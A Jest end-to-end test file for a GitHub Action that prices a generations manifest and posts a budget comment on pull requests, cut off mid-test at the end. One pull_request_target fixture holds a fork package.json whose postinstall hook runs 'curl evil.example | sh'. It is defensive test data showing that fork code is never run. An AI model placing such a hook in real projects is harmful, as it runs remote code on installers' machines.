/**
 * End to end on pull requests: the BUILT action (dist/index.js) as a child process under
 * `pull_request` and `pull_request_target` events, against the Layer simulator and a fake GitHub
 * (REST + GraphQL) on 127.0.0.1. Every assertion is on what a runner or GitHub would see: the exit
 * code, the workflow commands, the outputs, the job summary, and the requests and comment bodies
 * the fake GitHub received.
 *
 * The built action paces its GitHub writes as GitHub asks (plugin-throttling: 1 s between writes,
 * GraphQL included, 3 s between comment creations) and backs off 1, 4, 9 s between retries. Runs
 * here count a millisecond for each of those seconds (the test-only TEST_WAIT_UNIT_ENV), so no case
 * sleeps; one case keeps the production waits, to show they are what a runner gets.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { readFile } from 'node:fs/promises'
import { runAction, type ActionRun } from '../helpers/run-action.js'
import { badGateway, startFakeGitHub, type FakeGitHub, type FakeGitHubOptions, type LoggedRequest } from '../helpers/fake-github.js'
import { SIM_MODELS } from '../../src/simulator/prices.js'
import { SIM_DEFAULT_BALANCE, SIM_WORKSPACE_ID, startSimulator, type Simulator } from '../../src/simulator/server.js'

const OWNER = 'acme'
const REPO = 'art'
const PR = 42
const BASE_SHA = 'b'.repeat(8) + '0123456789abcdef0123456789abcdef'
const HEAD_SHA = 'c0ffee00' + '11223344556677889900aabbccddeeff'
const OTHER_HEAD_SHA = 'dead0000' + '11223344556677889900aabbccddeeff'
const MANIFEST_PATH = '.layer/generations.yml'
const IMAGE = SIM_MODELS.image.id
const VIDEO = SIM_MODELS.video.id
const COMMENT_LIMIT = 65_536

let sim: Simulator
let fake: FakeGitHub | undefined
beforeAll(async () => {
  sim = await startSimulator({ token: 'lbg-SENTINEL-layer-token-0123456789' })
})
afterAll(async () => sim.close())
beforeEach(() => {
  sim.setBalance(SIM_WORKSPACE_ID, SIM_DEFAULT_BALANCE)
  sim.setFaults(undefined)
  sim.resetStats()
})
afterEach(async () => {
  await fake?.close()
  fake = undefined
})

// The base commit's manifest: knight (unchanged in the head), castle (8 s, made 12 s in the head),
// old-tiles (removed in the head). Made-up simulator prices: knight 0.7 x 3 = 2.1, castle 10,
// old-tiles 0.088 x 5 = 0.44: 12.54 CU.
const BASE_MANIFEST = `version: 1
workspace_id: ${SIM_WORKSPACE_ID}
models:
  art: ${IMAGE}
defaults:
  batch_size: 2
generations:
  - name: knight
    model_id: art
    prompt: "A knight"
    width: 1024
    height: 1024
    runs: 3
    group: characters
  - name: castle
    model_id: ${VIDEO}
    batch_size: 1
    duration_seconds: 8
    group: cinematics
  - name: old-tiles
    model_id: art
    prompt: "Dungeon floor tiles"
    width: 512
    height: 512
    batch_size: 1
    runs: 5
    group: environment
`

// The pull request's manifest: knight as at base (keys reordered: the same request), castle 12 s
// (15 CU), dragon added (high quality: 0.613 x 2 = 1.226 CU). 18.326 CU, +5.786 against base.
const HEAD_MANIFEST = `version: 1
workspace_id: ${SIM_WORKSPACE_ID}
models:
  art: ${IMAGE}
defaults:
  batch_size: 2
generations:
  - name: knight
    model_id: art
    height: 1024
    width: 1024
    prompt: "A knight"
    runs: 3
    group: characters
  - name: castle
    model_id: ${VIDEO}
    batch_size: 1
    duration_seconds: 12
    group: cinematics
  - name: dragon
    model_id: art
    prompt: "A dragon over the castle"
    width: 1024
    height: 1024
    quality: high
    group: characters
`

// Another manifest, nothing like the others: 3D models (6.5 CU each, x 4 runs = 26 CU).
const OTHER_MANIFEST = `version: 1
workspace_id: ${SIM_WORKSPACE_ID}
generations:
  - name: statue-from-the-base-branch
    model_id: ${SIM_MODELS.threeD.id}
    prompt: "A marble statue"
    runs: 4
`

interface PrEvent {
  headRepo?: string | null
  headSha?: string
  action?: string
}

/** A pull_request / pull_request_target payload as GitHub sends it (the fields the action reads, and some it does not). */
function prEvent({ headRepo = `${OWNER}/${REPO}`, headSha = HEAD_SHA, action = 'synchronize' }: PrEvent = {}): unknown {
  const repository = { full_name: `${OWNER}/${REPO}`, name: REPO, owner: { login: OWNER }, private: false }
  return {
    action,
    number: PR,
    pull_request: {
      number: PR,
      state: 'open',
      title: 'More knights',
      user: { login: 'contributor' },
      head: {
        ref: 'feature/knights',
        sha: headSha,
        label: `${headRepo?.split('/')[0] ?? 'ghost'}:feature/knights`,
        repo: headRepo === null ? null : { full_name: headRepo, fork: headRepo !== `${OWNER}/${REPO}` },
      },
      base: { ref: 'main', sha: BASE_SHA, label: `${OWNER}:main`, repo: repository },
    },
    repository,
    sender: { login: 'contributor' },
  }
}

/** The hidden marker a run of the gate puts first in its comment. */
function marker(run: number, sha = HEAD_SHA, attempt = 1, key = 'default'): string {
  return `<!-- layer-budget-gate key=${key} run=${run} attempt=${attempt} sha=${sha} -->`
}

async function startFake(options: FakeGitHubOptions = {}): Promise<FakeGitHub> {
  fake = await startFakeGitHub({
    owner: OWNER,
    repo: REPO,
    token: 'ghs_fake-github-token',
    files: { [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST, 'README.md': '# art\n' } },
    ...options,
  })
  return fake
}

interface PrRun {
  eventName?: 'pull_request' | 'pull_request_target'
  event?: unknown
  inputs?: Record<string, string>
  files?: Record<string, string>
  runId?: number
  realGitHubWaits?: boolean
}

/** One run of the built action on a pull request, against the simulator and the fake GitHub. */
function runPr(
  github: FakeGitHub,
  { eventName = 'pull_request', event = prEvent(), inputs = {}, files, runId = 1000, realGitHubWaits = false }: PrRun = {},
): Promise<ActionRun> {
  return runAction({
    realGitHubWaits,
    eventName,
    event,
    inputs: {
      'layer-token': sim.token,
      'api-url': sim.url,
      'github-token': 'ghs_fake-github-token',
      'max-retries': '1',
      ...inputs,
    },
    files: files ?? { [MANIFEST_PATH]: HEAD_MANIFEST },
    env: {
      GITHUB_REPOSITORY: `${OWNER}/${REPO}`,
      GITHUB_API_URL: github.url,
      GITHUB_GRAPHQL_URL: github.graphqlUrl,
      GITHUB_RUN_ID: String(runId),
      GITHUB_SHA: 'e'.repeat(40), // the merge commit on pull_request: never the one to report
    },
    timeoutMs: 25_000,
  })
}

const COMMENTS_PATH = `/repos/${OWNER}/${REPO}/issues/${PR}/comments`
const isCommentWrite = (r: LoggedRequest): boolean =>
  (r.method === 'POST' && r.path === COMMENTS_PATH) || (/^\/repos\/[^/]+\/[^/]+\/issues\/comments\/\d+$/.test(r.path) && r.method !== 'GET')

function requestsTo(github: FakeGitHub, method: string, path: string | RegExp): LoggedRequest[] {
  return github.requests.filter((r) => r.method === method && (typeof path === 'string' ? r.path === path : path.test(r.path)))
}

/** The comment bodies the fake stored for the pull request, marker first. */
function gateComments(github: FakeGitHub): string[] {
  return github.comments(PR).map((c) => c.body).filter((body) => body.startsWith('<!-- layer-budget-gate '))
}

/** The text GitHub shows: character references decoded. */
function decoded(markdown: string): string {
  const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"' }
  return markdown.replace(/&(#\d+|[a-z]+);/g, (_, ref: string) =>
    ref.startsWith('#') ? String.fromCodePoint(Number(ref.slice(1))) : (named[ref] ?? `&${ref};`),
  )
}

/** The cells of the table row whose first cell is `first` (undefined when there is none). */
function row(markdown: string, first: string): string[] | undefined {
  const line = markdown.split('\n').find((l) => l.startsWith(`| ${first} |`))
  return line
    ?.slice(1, -1)
    .split('|')
    .map((cell) => cell.trim())
}

/** Every table's rows have as many cells as its header. */
function expectWellFormedTables(markdown: string): void {
  let columns: number | undefined
  for (const line of markdown.split('\n')) {
    if (!line.startsWith('|')) {
      columns = undefined
      continue
    }
    const cells = line.split('|').length
    columns ??= cells
    expect({ line, cells }).toEqual({ line, cells: columns })
  }
}

async function jsonReport(result: ActionRun): Promise<{ delta_creative_units?: number | null; base_note?: string; generations: { name: string; change?: string }[] }> {
  return JSON.parse(await readFile(result.outputs['report-path']!, 'utf8'))
}

describe('the sticky comment', () => {
  it('creates the comment with the verdict, the breakdown and a link to the run, and sets comment-url', async () => {
    const github = await startFake()
    const result = await runPr(github)
    expect(result.code).toBe(0)
    const comments = github.comments(PR)
    expect(comments).toHaveLength(1)
    const body = comments[0]!.body
    expect(body.split('\n')[0]).toBe(marker(1000))
    expect(body).toContain('### ✅ Within budget: 18.326 CU of 2,500.75 CU (+5.786 CU against base)')
    expect(body).toContain('[Workflow run](https://github.com/acme/art/actions/runs/1000/attempts/1)')
    expect(body).toContain(`Commit ${HEAD_SHA.slice(0, 7)}`)
    expect(body).not.toContain('e'.repeat(7)) // not the merge commit
    expect(result.outputs['comment-url']).toBe(`https://github.com/${OWNER}/${REPO}/pull/${PR}#issuecomment-${comments[0]!.id}`)
    // The first run of a pull request needs no GraphQL: there is no earlier comment to own.
    expect(github.writes().map((r) => `${r.method} ${r.path}`)).toEqual([`POST ${COMMENTS_PATH}`])
  })

  it('updates its own comment found on page 3 of 250, leaving the look-alikes of other users alone', async () => {
    const github = await startFake()
    for (let i = 0; i < 230; i++) github.addComment(PR, `Review comment ${i}`, i % 2 ? 'octocat' : 'hubot')
    const ours = github.addComment(PR, `${marker(990, OTHER_HEAD_SHA)}\nold text`)
    // Anyone can paste the marker; only the token's own comments count.
    const pasted = github.addComment(PR, `${marker(995, OTHER_HEAD_SHA)}\npasted by a human`, 'mallory')
    for (let i = 0; i < 18; i++) github.addComment(PR, `Later comment ${i}`, 'octocat')
    expect(github.comments(PR)).toHaveLength(250)

    const result = await runPr(github)
    expect(result.code).toBe(0)
    // All three pages were read.
    expect(requestsTo(github, 'GET', COMMENTS_PATH).map((r) => r.query['page'] ?? '1')).toEqual(['1', '2', '3'])
    const writes = github.requests.filter(isCommentWrite)
    expect(writes.map((r) => `${r.method} ${r.path}`)).toEqual([`PATCH /repos/${OWNER}/${REPO}/issues/comments/${ours.id}`])
    const after = github.comments(PR)
    expect(after).toHaveLength(250)
    expect(after.find((c) => c.id === ours.id)!.body).toMatch(new RegExp(`^${marker(1000)}\n### ✅ Within budget`))
    expect(after.find((c) => c.id === pasted.id)!.body).toContain('pasted by a human')
    expect(result.outputs['comment-url']).toBe(`https://github.com/${OWNER}/${REPO}/pull/${PR}#issuecomment-${ours.id}`)
  })

  it('does not rewrite the comment when a later run at the same head commit has nothing new to say', async () => {
    const github = await startFake()
    const first = await runPr(github, { runId: 1000 })
    expect(first.code).toBe(0)
    const [created] = github.comments(PR)
    const second = await runPr(github, { runId: 1001 })
    expect(second.code).toBe(0)
    expect(requestsTo(github, 'PATCH', /\/issues\/comments\//)).toEqual([])
    expect(requestsTo(github, 'POST', COMMENTS_PATH)).toHaveLength(1)
    expect(github.comments(PR)).toEqual([created])
    expect(second.outputs['comment-url']).toBe(first.outputs['comment-url'])
    expect(second.stdout).toMatch(/comment unchanged/i)

    // A new head commit is news even when the figures are the same: the marker must record it.
    const third = await runPr(github, { runId: 1002, event: prEvent({ headSha: OTHER_HEAD_SHA }) })
    expect(third.code).toBe(0)
    expect(requestsTo(github, 'PATCH', /\/issues\/comments\//)).toHaveLength(1)
    expect(github.comments(PR)[0]!.body.split('\n')[0]).toBe(marker(1002, OTHER_HEAD_SHA))
  }, 40_000)

  it('replaces an earlier verdict when a later commit cannot be priced (invalid manifest), naming each problem', async () => {
    const github = await startFake()
    const ours = github.addComment(PR, `${marker(990, OTHER_HEAD_SHA)}\n### ✅ Within budget: 12.54 CU of 2,500.75 CU`)
    const invalid = HEAD_MANIFEST.replace('    quality: high\n', '    qualty: high\n').replace('    runs: 3\n', '    runs: 0\n')
    const result = await runPr(github, { files: { [MANIFEST_PATH]: invalid } })
    expect(result.code).toBe(1)
    expect(sim.requests).toBe(0)
    const body = github.comments(PR).find((c) => c.id === ours.id)!.body
    expect(body.split('\n')[0]).toBe(marker(1000))
    expect(body).not.toContain('Within budget')
    expect(body).toContain('### ⚠️ Could not price the generations: the total is unknown')
    expect(body).toContain('2 problems in .layer/generations.yml')
    expect(body).toMatch(/^- \.layer\/generations\.yml:13:11: generations&#91;0&#93;\.runs must be an integer from 1/m)
    expect(body).toMatch(/^- \.layer\/generations\.yml:25:5: .*qualty.*did you mean &quot;quality&quot;/m)
    expect(body).toContain('[Workflow run](https://github.com/acme/art/actions/runs/1000/attempts/1)')
    expect(result.outputs['comment-url']).toBe(`https://github.com/${OWNER}/${REPO}/pull/${PR}#issuecomment-${ours.id}`)
    expect(result.outputs.sufficient).toBe('false')
    expect(result.errors.join('\n')).toMatch(/qualty/)
  })

  it('leaves a newer run’s comment alone and says so (runs finish out of order)', async () => {
    const github = await startFake()
    const newer = github.addComment(PR, `${marker(2000, OTHER_HEAD_SHA)}\nwritten by run 2000`)
    const result = await runPr(github, { runId: 1000 })
    expect(result.code).toBe(0)
    expect(github.requests.filter(isCommentWrite)).toEqual([])
    expect(github.comments(PR)).toEqual([newer])
    expect(result.stdout).toMatch(/newer run \(run 2000, attempt 1, commit dead000\).*this is run 1000/)
    expect(result.outputs['comment-url']).toBe(`https://github.com/${OWNER}/${REPO}/pull/${PR}#issuecomment-${newer.id}`)
  })

  it('treats a later attempt of the same run as newer', async () => {
    const github = await startFake()
    github.addComment(PR, `${marker(1000, HEAD_SHA, 2)}\nwritten by attempt 2`)
    const result = await runPr(github, { runId: 1000 })
    expect(result.code).toBe(0)
    expect(github.requests.filter(isCommentWrite)).toEqual([])
    expect(github.comments(PR)[0]!.body).toContain('written by attempt 2')
  })

  it('comment: new posts another comment and keeps the old one', async () => {
    const github = await startFake()
    const old = github.addComment(PR, `${marker(990, OTHER_HEAD_SHA)}\nold text`)
    const result = await runPr(github, { inputs: { comment: 'new' } })
    expect(result.code).toBe(0)
    const bodies = gateComments(github)
    expect(bodies).toHaveLength(2)
    expect(bodies[0]).toContain('old text')
    expect(bodies[1]!.split('\n')[0]).toBe(marker(1000))
    const created = github.comments(PR).at(-1)!
    expect(created.id).not.toBe(old.id)
    expect(result.outputs['comment-url']).toMatch(new RegExp(`#issuecomment-${created.id}$`))
    expect(requestsTo(github, 'DELETE', /./)).toEqual([])
  })

  it('comment: delete-and-new posts the new comment first, then deletes the old ones', async () => {
    const github = await startFake()
    const old = github.addComment(PR, `${marker(990, OTHER_HEAD_SHA)}\nold text`)
    const other = github.addComment(PR, `${marker(991, OTHER_HEAD_SHA, 1, 'nightly')}\nanother gate's comment`)
    const result = await runPr(github, { inputs: { comment: 'delete-and-new' } })
    expect(result.code).toBe(0)
    const writes = github.requests.filter(isCommentWrite).map((r) => r.method)
    expect(writes).toEqual(['POST', 'DELETE'])
    expect(requestsTo(github, 'DELETE', /./)[0]!.path).toBe(`/repos/${OWNER}/${REPO}/issues/comments/${old.id}`)
    const left = github.comments(PR)
    expect(left.map((c) => c.id)).toContain(other.id) // another comment-key is another gate
    expect(left.map((c) => c.id)).not.toContain(old.id)
    expect(gateComments(github).filter((b) => b.includes('key=default'))).toHaveLength(1)
  }, 40_000)

  it('comment: hide-and-new minimises the old comment as outdated through GraphQL', async () => {
    const github = await startFake()
    const old = github.addComment(PR, `${marker(990, OTHER_HEAD_SHA)}\nold text`)
    const result = await runPr(github, { inputs: { comment: 'hide-and-new' } })
    expect(result.code).toBe(0)
    const after = github.comments(PR)
    expect(after).toHaveLength(2)
    expect(after.find((c) => c.id === old.id)!.minimizedAs).toBe('OUTDATED')
    expect(after.at(-1)!.minimizedAs).toBeUndefined()
    const mutations = requestsTo(github, 'POST', '/graphql').filter((r) => /minimizeComment/.test(JSON.stringify(r.body)))
    expect(mutations).toHaveLength(1)
    expect(JSON.stringify(mutations[0]!.body)).toContain(old.node_id)
    expect(requestsTo(github, 'DELETE', /./)).toEqual([])
  }, 40_000)

  it('comment: off writes no comment and reads none, and comment-url is empty', async () => {
    const github = await startFake()
    github.addComment(PR, `${marker(990, OTHER_HEAD_SHA)}\nold text`)
    const result = await runPr(github, { inputs: { comment: 'off' } })
    expect(result.code).toBe(0)
    expect(github.requests.filter((r) => r.path.includes('/issues/') || r.path === '/graphql')).toEqual([])
    expect(result.outputs['comment-url']).toBe('')
    // The base is still compared: off is about the comment only.
    expect(result.outputs['delta-creative-units']).toBe('5.786')
  })
})

describe('the change against the base commit', () => {
  it('reads the base through a 502 from the contents API (retried), and still shows the change', async () => {
    const github = await startFake({ failures: [badGateway({ method: 'GET', path: /\/contents\// }, 1)] })
    // The production waits: this is the case that shows a runner's retry waits 1 s.
    const result = await runPr(github, { realGitHubWaits: true })
    expect(result.code).toBe(0)
    expect(result.outputs).toMatchObject({ 'total-creative-units': '18.326', 'delta-creative-units': '5.786', sufficient: 'true' })
    const attempts = requestsTo(github, 'GET', /\/contents\//)
    expect(attempts.map((r) => r.status)).toEqual([502, 200])
    expect(attempts[1]!.at - attempts[0]!.at).toBeGreaterThanOrEqual(950)
  })

  it('says so, and still decides, when the contents API never answers for the base', async () => {
    const github = await startFake({ failures: [{ method: 'GET', path: /\/contents\//, status: 503, times: 100, body: { message: 'Service Unavailable' } }] })
    const result = await runPr(github)
    expect(result.code).toBe(0)
    // Three retries, 1 + 4 + 9 ms apart here instead of seconds (a runner waits 14 s).
    const attempts = requestsTo(github, 'GET', /\/contents\//)
    expect(attempts.map((r) => r.status)).toEqual([503, 503, 503, 503])
    expect(attempts.at(-1)!.at - attempts[0]!.at).toBeLessThan(5000)
    expect(result.outputs).toMatchObject({ 'total-creative-units': '18.326', 'delta-creative-units': '', sufficient: 'true' })
    const body = github.comments(PR)[0]!.body
    expect(decoded(body)).toMatch(/The manifests at the base commit bbbbbbb could not be read \(.*503.*\), so there is no change to show/)
  }, 40_000)

  it('prices the base manifest from the contents API and shows added, removed, changed and unchanged rows', async () => {
    const github = await startFake()
    const result = await runPr(github)
    expect(result.code).toBe(0)
    expect(result.outputs).toMatchObject({
      'total-creative-units': '18.326',
      'delta-creative-units': '5.786',
      'remaining-creative-units': '2482.424',
      sufficient: 'true',
      entries: '3',
      requests: '5',
    })
    // The base was read at the base commit, through the API: a literal path needs no tree listing.
    expect(requestsTo(github, 'GET', /\/git\/trees\//)).toEqual([])
    const contents = requestsTo(github, 'GET', `/repos/${OWNER}/${REPO}/contents/${MANIFEST_PATH}`)
    expect(contents.map((r) => r.query['ref'])).toEqual([BASE_SHA])

    // knight is the same request at head and base: it is sent once.
    expect(sim.requests).toBe(5)
    const knights = sim.log.filter((entry) => (entry.body as { prompt?: string }).prompt === 'A knight')
    expect(knights).toHaveLength(1)

    const body = github.comments(PR)[0]!.body
    expect(row(body, 'knight')).toEqual(['knight', 'art', '3', '0.7', '2.1', '11.5%', 'unchanged', '—'])
    expect(row(body, 'castle')).toEqual(['castle', VIDEO, '1', '15', '15', '81.9%', 'changed', '+5'])
    expect(row(body, 'dragon')).toEqual(['dragon', 'art', '1', '1.226', '1.226', '6.7%', 'added', '+1.226'])
    expect(row(body, 'old-tiles')).toEqual(['old-tiles', 'art', '5', '—', '—', '—', 'removed', '-0.44'])
    expect(row(body, '**Total: 3 generations**')).toEqual(['**Total: 3 generations**', '', '', '', '**18.326**', '**100%**', '', '**+5.786**'])
    expect(body).toContain('**+5.786 CU** against base: 1 added, 1 changed, 1 removed, 1 unchanged.')
    expectWellFormedTables(body)

    const report = await jsonReport(result)
    expect(report.delta_creative_units).toBe(5.786)
    expect(Object.fromEntries(report.generations.map((g) => [g.name, g.change]))).toEqual({
      castle: 'changed',
      dragon: 'added',
      knight: 'unchanged',
      'old-tiles': 'removed',
    })
    expect(result.summary).toContain('| old-tiles |')
    // Neither token shows anywhere a person could read it (the runner hides `::add-mask::` lines).
    const seen = [
      result.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n'),
      result.stderr,
      result.summary,
      JSON.stringify(result.outputs),
      JSON.stringify(report),
      JSON.stringify(github.requests.map((r) => r.body)),
    ].join('\n')
    expect(seen).not.toContain(sim.token)
    expect(seen).not.toContain('ghs_fake-github-token')
    expect(github.requests.every((r) => r.headers.authorization === 'token ghs_fake-github-token')).toBe(true)
  })

  it('matches a glob at the base commit as in the workspace (dot directories included, node_modules skipped)', async () => {
    const github = await startFake({
      files: {
        [BASE_SHA]: {
          [MANIFEST_PATH]: BASE_MANIFEST,
          'node_modules/some-package/generations.yml': 'not: [a manifest',
          'docs/generations.md': '# not yaml',
        },
      },
    })
    const result = await runPr(github, { inputs: { manifest: '**/generations.yml' } })
    expect(result.code).toBe(0)
    expect(result.outputs['delta-creative-units']).toBe('5.786')
    expect(requestsTo(github, 'GET', `/repos/${OWNER}/${REPO}/git/trees/${BASE_SHA}`)).toHaveLength(1)
    expect(requestsTo(github, 'GET', /\/contents\//).map((r) => r.path)).toEqual([`/repos/${OWNER}/${REPO}/contents/${MANIFEST_PATH}`])
  })

  it('counts everything as added when the manifest is missing at base', async () => {
    const github = await startFake({ files: { [BASE_SHA]: { 'README.md': '# art\n' } } })
    const result = await runPr(github)
    expect(result.code).toBe(0)
    expect(result.outputs['delta-creative-units']).toBe('18.326')
    expect(result.outputs.requests).toBe('3')
    expect(sim.requests).toBe(3)
    const body = github.comments(PR)[0]!.body
    for (const name of ['knight', 'castle', 'dragon']) expect(row(body, name)?.[6]).toBe('added')
    expect(body).toContain('**+18.326 CU** against base: 3 added.')
    const report = await jsonReport(result)
    expect(report.generations.every((g) => g.change === 'added')).toBe(true)
  })

  it('shows a note and no diff when the base manifest is invalid, and still prices the head', async () => {
    const invalid = BASE_MANIFEST.replace('    width: 512\n', '    widht: 512\n')
    const github = await startFake({ files: { [BASE_SHA]: { [MANIFEST_PATH]: invalid } } })
    const result = await runPr(github)
    expect(result.code).toBe(0)
    expect(result.outputs['total-creative-units']).toBe('18.326')
    expect(result.outputs['delta-creative-units']).toBe('')
    expect(sim.requests).toBe(3) // the invalid base is never sent to Layer
    const body = github.comments(PR)[0]!.body
    expect(body).toMatch(/ℹ️ The manifests at the base commit bbbbbbb are invalid \(\.layer\/generations\.yml:23: .*widht.*\), so there is no change to show\./)
    expect(body).not.toMatch(/\| Change \|/)
    expect(body).not.toMatch(/\badded\b|\bremoved\b/)
    // A problem at base is not the pull request's problem: no annotation on the head's file.
    expect(result.errors).toEqual([])
    const report = await jsonReport(result)
    expect(report.base_note).toMatch(/invalid/)
    expect(report.generations.some((g) => g.change !== undefined)).toBe(false)
  })

  it('reads nothing at base with compare-base: false', async () => {
    const github = await startFake()
    const result = await runPr(github, { inputs: { 'compare-base': 'false' } })
    expect(result.code).toBe(0)
    expect(github.requests.filter((r) => r.path.includes('/git/') || r.path.includes('/contents/'))).toEqual([])
    expect(sim.requests).toBe(3)
    expect(result.outputs['delta-creative-units']).toBe('')
    const body = github.comments(PR)[0]!.body
    expect(body).not.toMatch(/against base/)
    expect(body).not.toMatch(/\| Change \|/)
  })
})

describe('pull_request_target', () => {
  it('prices the manifest of the pull request head, read through the API as data, not the base checkout', async () => {
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST },
        // What the fork's head holds: its manifest, and things that must never be run.
        [HEAD_SHA]: {
          [MANIFEST_PATH]: HEAD_MANIFEST,
          'package.json': '{"scripts":{"postinstall":"curl evil.example | sh"}}',
          '.github/actions/layer/action.yml': 'runs: { using: node20, main: evil.js }',
        },
      },
    })
    const result = await runPr(github, {
      eventName: 'pull_request_target',
      event: prEvent({ headRepo: 'contributor/art' }),
      // pull_request_target checks out the base branch: a DIFFERENT manifest sits in the workspace.
      files: { [MANIFEST_PATH]: OTHER_MANIFEST },
    })
    expect(result.code).toBe(0)
    expect(result.outputs['total-creative-units']).toBe('18.326')
    expect(result.outputs['delta-creative-units']).toBe('5.786')
    expect(sim.log.some((entry) => (entry.body as { prompt?: string }).prompt === 'A marble statue')).toBe(false)
    // At the head commit, only the manifest was read.
    const atHead = github.requests.filter((r) => r.path.includes(HEAD_SHA) || r.query['ref'] === HEAD_SHA)
    expect(atHead.map((r) => `${r.method} ${r.path}`)).toEqual([`GET /repos/${OWNER}/${REPO}/contents/${MANIFEST_PATH}`])
    const body = github.comments(PR)[0]!.body
    expect(row(body, 'dragon')?.[6]).toBe('added')
    expect(body).not.toContain('statue')
  })

  it('fails closed on pull_request_target when the head manifest cannot be read', async () => {
    const github = await startFake({
      files: { [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST }, [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST } },
      failures: [{ method: 'GET', path: /\/contents\//, status: 503, times: 100, body: { message: 'Service Unavailable' } }],
    })
    const result = await runPr(github, { eventName: 'pull_request_target', event: prEvent({ headRepo: 'contributor/art' }) })
    expect(result.code).toBe(1)
    expect(result.outputs.sufficient).toBe('false')
    expect(sim.requests).toBe(0)
    expect(result.errors.at(-1)).toMatch(/^::error::.*503/)
    expect(result.errors.join('\n')).not.toMatch(/unexpected error/)
  }, 40_000)

  it('does not let the pull request point the token at another workspace', async () => {
    const elsewhere = '0a0b0c0d-1111-4222-8333-444455556666'
    sim.setBalance(elsewhere, 99_999)
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST },
        [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST.replace(SIM_WORKSPACE_ID, elsewhere) },
      },
    })
    const result = await runPr(github, { eventName: 'pull_request_target', event: prEvent({ headRepo: 'contributor/art' }) })
    expect(result.code).toBe(1)
    expect(sim.requests).toBe(0)
    expect(result.errors.join('\n')).toMatch(
      new RegExp(`file=\\.layer/generations\\.yml,line=2,col=\\d+::workspace_id ${elsewhere} .* differs from ${SIM_WORKSPACE_ID} at the base commit.*\`workspace-id\` input`),
    )
    const body = github.comments(PR)[0]!.body
    expect(body).toContain('Could not price')
    expect(body).not.toContain('99,999')
  })

  it.each([
    ['the base commit is not read (compare-base: false)', { 'compare-base': 'false' }, /the base commit was not read: set the `workspace-id` input/],
    ['the base manifest names no workspace', {}, /the base commit's manifests name none: set the `workspace-id` input/],
  ])('asks for the workspace-id input when %s', async (_label, inputs, message) => {
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST.replace(`workspace_id: ${SIM_WORKSPACE_ID}\n`, '') },
        [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST },
      },
    })
    const refused = await runPr(github, { eventName: 'pull_request_target', inputs })
    expect(refused.code).toBe(1)
    expect(refused.errors.join('\n')).toMatch(message)
    expect(sim.requests).toBe(0)
    // With the input, the same run prices.
    const priced = await runPr(github, { eventName: 'pull_request_target', inputs: { ...inputs, 'workspace-id': SIM_WORKSPACE_ID, comment: 'off' } })
    expect(priced.code).toBe(0)
    expect(priced.outputs['total-creative-units']).toBe('18.326')
  })

  it('fails with a located annotation when the head manifest is invalid', async () => {
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST },
        [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST.replace('    quality: high\n', '    qualty: high\n') },
      },
    })
    const result = await runPr(github, { eventName: 'pull_request_target', event: prEvent({ headRepo: 'contributor/art' }), files: { [MANIFEST_PATH]: OTHER_MANIFEST } })
    expect(result.code).toBe(1)
    expect(result.errors.join('\n')).toMatch(/file=\.layer\/generations\.yml,line=25,col=5::.*qualty.*did you mean "quality"/)
    expect(sim.requests).toBe(0)
  })
})

describe('when GitHub says no', () => {
  it.each([
    ['within budget', {}, 0],
    ['over budget', { 'min-remaining-balance': '2490' }, 1],
  ])('a read-only token is a warning that says why and what to do; %s decides the step', async (_label, inputs, code) => {
    const github = await startFake({ readOnly: true })
    const result = await runPr(github, { inputs })
    expect(result.code).toBe(code)
    const warning = result.warnings.find((w) => /comment/.test(w))
    expect(warning).toBeDefined()
    expect(warning).toMatch(/403/)
    expect(warning).toMatch(/read-only/)
    expect(warning).toMatch(/pull_request_target/)
    expect(warning).toMatch(/pull-requests: write/)
    expect(github.comments(PR)).toEqual([])
    expect(result.outputs['total-creative-units']).toBe('18.326')
    expect(result.outputs['delta-creative-units']).toBe('5.786')
    expect(result.outputs['comment-url']).toBe('')
    expect(result.outputs.sufficient).toBe(code === 0 ? 'true' : 'false')
    expect(result.summary).toContain('| dragon |')
  })

  it('never publishes a token that GitHub echoes in an error, though it quotes the error in the comment', async () => {
    const echo = { message: 'Validation failed for token ghs_fake-github-token', documentation_url: 'https://docs.github.com/rest?t=ghs_fake-github-token' }
    const github = await startFake({ failures: [{ method: 'GET', path: /\/contents\//, status: 422, body: echo }] })
    const result = await runPr(github)
    expect(result.code).toBe(0)
    const body = github.comments(PR)[0]!.body
    expect(body).toMatch(/could not be read \(.*Validation failed for token &#42;&#42;&#42; /)
    for (const text of [body, result.summary, result.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n')]) {
      expect(text).not.toContain('ghs_fake')
    }
  })

  it('fails closed on a fork’s pull_request without layer-token, pointing to the pull_request_target recipe', async () => {
    const github = await startFake()
    const result = await runPr(github, { event: prEvent({ headRepo: 'contributor/art' }), inputs: { 'layer-token': '' } })
    expect(result.code).toBe(1)
    const error = result.errors.join('\n')
    expect(error).toMatch(/layer-token/)
    expect(error).toMatch(/fork/)
    expect(error).toMatch(/pull_request_target.*README/)
    expect(result.outputs.sufficient).toBe('false')
    expect(sim.requests).toBe(0)
    expect(github.writes()).toEqual([])
  })

  it('says nothing about forks when a same-repository pull_request lacks layer-token', async () => {
    const github = await startFake()
    const result = await runPr(github, { inputs: { 'layer-token': '' } })
    expect(result.code).toBe(1)
    expect(result.errors.join('\n')).toMatch(/layer-token/)
    expect(result.errors.join('\n')).not.toMatch(/fork/)
  })

  it.each([
    ['create', 'POST', COMMENTS_PATH, false],
    ['update', 'PATCH', /\/issues\/comments\/\d+$/, true],
  ] as const)('a 502 on the comment %s is retried and the comment is not lost', async (_label, method, path, existing) => {
    const github = await startFake()
    if (existing) github.addComment(PR, `${marker(990, OTHER_HEAD_SHA)}\nold text`)
    github.fail(badGateway({ method, path }))
    const result = await runPr(github)
